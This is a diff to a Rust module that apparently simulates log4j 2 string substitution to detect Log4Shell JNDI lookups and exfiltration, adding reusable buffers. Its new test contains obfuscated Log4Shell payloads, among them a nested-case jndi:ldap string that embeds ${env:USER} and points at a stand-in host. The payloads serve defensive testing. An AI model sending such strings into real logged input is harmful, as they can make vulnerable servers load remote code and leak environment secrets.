@@ -10,6 +10,8 @@
 //! - an unresolvable lookup without default stays in the output as its original text;
 //! - a `${` without a matching `}` ends substitution, leaving the rest literal.
 
+use std::cell::Cell;
+
 use super::lookup::{self, Exfiltration, Outcome};
 
 /// Hard limits on one evaluation, all attacker-controlled dimensions.
@@ -77,8 +79,28 @@ pub(crate) struct Evaluation {
     pub abort: Option<Abort>,
 }
 
+/// Buffers that evaluations reuse instead of allocating them for every candidate line: the
+/// close table and its stack, and the strings of substituted names and of the recursion chain.
+#[derive(Debug, Default)]
+struct Scratch {
+    closes: Vec<u32>,
+    open: Vec<u32>,
+    strings: Vec<String>,
+}
+
+/// Most spare strings kept between evaluations; a deeper evaluation allocates the rest.
+const MAX_SPARE_STRINGS: usize = 32;
+
+thread_local! {
+    /// One thread's evaluations run one after the other. An evaluation takes the scratch out
+    /// and puts it back when done, so a nested one would simply start with empty buffers.
+    static SCRATCH: Cell<Scratch> = Cell::new(Scratch::default());
+}
+
 /// Evaluates `input` as log4j 2 would substitute a logged message.
 pub(crate) fn evaluate(input: &str, limits: &Limits) -> Evaluation {
+    let mut scratch = SCRATCH.take();
+    fill_close_table(input.as_bytes(), &mut scratch.closes, &mut scratch.open);
     let mut state = State {
         limits,
         // Every `${` written in the input may run once; only what evaluation itself creates
@@ -86,13 +108,17 @@ pub(crate) fn evaluate(input: &str, limits: &Limits) -> Evaluation {
         lookups_left: limits.max_lookups + count_opens(input.as_bytes()),
         exfiltration: Vec::new(),
         jndi: Vec::new(),
-        closes: close_table(input.as_bytes()),
+        closes: std::mem::take(&mut scratch.closes),
+        spare: std::mem::take(&mut scratch.strings),
     };
     let mut prior = Vec::new();
     let (output, abort) = match state.substitute(input, Some(0), 0, &mut prior) {
         Ok(output) => (output, None),
         Err(abort) => (String::new(), Some(abort)),
     };
+    scratch.closes = state.closes;
+    scratch.strings = state.spare;
+    SCRATCH.set(scratch);
     Evaluation {
         output,
         jndi: state.jndi,
@@ -118,6 +144,8 @@ struct State<'l> {
     jndi: Vec<JndiCall>,
     /// [`close_table`] of the evaluated text, for the names cut out of it.
     closes: Vec<u32>,
+    /// Cleared strings to reuse for substituted names and the recursion chain.
+    spare: Vec<String>,
 }
 
 /// Marks a `${` without a matching `}` in a [`close_table`].
@@ -127,9 +155,19 @@ const UNCLOSED: u32 = u32::MAX;
 /// or [`UNCLOSED`]; other entries are unused. One pass with a stack: nested names are cut out
 /// of the evaluated text again and again (a `${` nested 48 deep is searched for its `}` 48
 /// times), and each search would scan the rest of the text.
+#[cfg(test)]
 fn close_table(bytes: &[u8]) -> Vec<u32> {
-    let mut closes = vec![UNCLOSED; bytes.len()];
-    let mut open: Vec<u32> = Vec::new();
+    let (mut closes, mut open) = (Vec::new(), Vec::new());
+    fill_close_table(bytes, &mut closes, &mut open);
+    closes
+}
+
+/// Writes the [`close_table`] of `bytes` into `closes`, with `open` as its stack; both are
+/// buffers reused from earlier evaluations.
+fn fill_close_table(bytes: &[u8], closes: &mut Vec<u32>, open: &mut Vec<u32>) {
+    closes.clear();
+    closes.resize(bytes.len(), UNCLOSED);
+    open.clear();
     let mut i = 0;
     while let Some(offset) = memchr::memchr2(b'$', b'}', &bytes[i..]) {
         let at = i + offset;
@@ -147,7 +185,6 @@ fn close_table(bytes: &[u8]) -> Vec<u32> {
             i = at + 1;
         }
     }
-    closes
 }
 
 /// Index of the next `${` at or after `from`.
@@ -296,13 +333,37 @@ impl State<'_> {
         out: &mut String,
     ) -> Result<bool, Abort> {
         let leaks_before = self.exfiltration.len();
-        let substituted;
-        let name_expression = if expression.contains('$') {
-            substituted = self.substitute(expression, origin, depth + 1, &mut Vec::new())?;
-            substituted.as_str()
-        } else {
-            expression
-        };
+        if !expression.contains('$') {
+            return self.resolve_into(expression, leaks_before, depth, prior, out);
+        }
+        // The name is substituted first, in a fresh context, into a reused string.
+        let mut name = self.spare.pop().unwrap_or_default();
+        let result = self
+            .substitute_into(expression, origin, depth + 1, &mut Vec::new(), &mut name)
+            .and_then(|()| self.resolve_into(&name, leaks_before, depth, prior, out));
+        self.put_back(name);
+        result
+    }
+
+    /// Returns a string to the spare ones.
+    fn put_back(&mut self, mut string: String) {
+        if self.spare.len() < MAX_SPARE_STRINGS {
+            string.clear();
+            self.spare.push(string);
+        }
+    }
+
+    /// Resolves the substituted `name_expression` of a `${...}` (with its default), appending
+    /// its value to `out`; `false` when it stays literal. `leaks_before` counts the
+    /// exfiltrating lookups met before the expression.
+    fn resolve_into(
+        &mut self,
+        name_expression: &str,
+        leaks_before: usize,
+        depth: usize,
+        prior: &mut Vec<String>,
+        out: &mut String,
+    ) -> Result<bool, Abort> {
         let (name, default) = match find_default(name_expression.as_bytes()) {
             Some(at) => (&name_expression[..at], Some(&name_expression[at + 2..])),
             None => (name_expression, None),
@@ -347,9 +408,13 @@ impl State<'_> {
             out.push_str(value);
             return Ok(true);
         }
-        prior.push(name.to_string());
+        let mut link = self.spare.pop().unwrap_or_default();
+        link.push_str(name);
+        prior.push(link);
         let result = self.substitute_into(value, None, depth + 1, prior, out);
-        prior.pop();
+        if let Some(link) = prior.pop() {
+            self.put_back(link);
+        }
         result.map(|()| true)
     }
 }
@@ -363,6 +428,21 @@ mod tests {
 
     fn eval(input: &str) -> Evaluation {
         evaluate(input, &Limits::default())
+    }
+
+    #[test]
+    fn reused_buffers_leave_no_trace() {
+        let deep = "${${lower:${lower:${lower:j}}}${upper:n}di:ldap://${env:USER}.a.example/x}";
+        let fresh = eval("${jndi:ldap://b.example/y}").jndi;
+        for _ in 0..3 {
+            assert_eq!(eval(deep).jndi[0].name, "ldap://${env:USER}.a.example/x");
+            assert_eq!(eval("${jndi:ldap://b.example/y}").jndi, fresh);
+            assert!(eval("${${::-${::-$${::-j}}}}").abort.is_some());
+            assert_eq!(eval("a${::-b}c").output, "abc");
+        }
+        let scratch = SCRATCH.take();
+        assert!(scratch.strings.len() <= MAX_SPARE_STRINGS);
+        assert!(scratch.strings.iter().all(String::is_empty));
     }
 
     fn jndi_names(input: &str) -> Vec<String> {
@@ -538,6 +618,7 @@ mod tests {
                 exfiltration: Vec::new(),
                 jndi: Vec::new(),
                 closes: close_table(bytes),
+                spare: Vec::new(),
             };
             // Pieces start where the evaluator cuts names out (after a `${`) and end anywhere.
             let starts = std::iter::once(0).chain(
